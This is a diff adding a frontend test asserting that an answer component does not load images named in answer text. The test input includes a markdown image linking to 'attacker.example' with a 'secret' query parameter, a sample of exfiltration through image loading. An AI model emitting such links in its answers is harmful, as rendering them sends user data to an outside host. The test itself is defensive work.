@@ -25,4 +25,18 @@ describe("Answer", () => {
     await userEvent.click(screen.getByRole("button", { name: "Open source 2" }));
     expect(onCite).toHaveBeenCalledWith(2);
   });
+
+  it("loads no image an answer names, remote or not: it shows the alternative text", () => {
+    const { container } = render(
+      <I18nProvider lang="en">
+        <Answer
+          text={"Revenue grew [1]. ![chart](https://attacker.example/c.png?q=secret) ![](/api/v1/x.png)"}
+          onCite={() => {}}
+        />
+      </I18nProvider>,
+    );
+    expect(container.querySelector("img")).toBeNull();
+    expect(container.innerHTML).not.toContain("attacker.example");
+    expect(screen.getByTestId("answer-image-alt").textContent).toBe("[chart]");
+  });
 });
